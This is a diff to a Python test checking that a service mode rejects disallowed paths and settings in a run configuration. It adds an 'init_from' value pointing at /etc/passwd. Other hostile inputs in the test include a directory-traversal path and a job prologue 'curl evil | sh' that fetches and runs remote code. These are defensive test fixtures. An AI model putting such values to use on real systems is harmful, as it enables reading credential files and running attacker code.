@@ -125,6 +125,7 @@ def test_every_path_of_a_run_is_confined_in_service_mode(tiny_scan, tmp_path, mo
                       {"input": {"flats": "/etc"}},
                       {"input": {"darks": str(tmp_path / "out" / ".." / "elsewhere" / "*.tif")}},
                       {"train": {"resume": "/etc/passwd"}},
+                      {"train": {"init_from": "/etc/passwd"}},
                       {"compute": {"slurm": {"job_script_prologue": ["curl evil | sh"]}}},
                       {"compute": {"address": "tcp://elsewhere:8786"}}):
         with pytest.raises(PathNotAllowed):
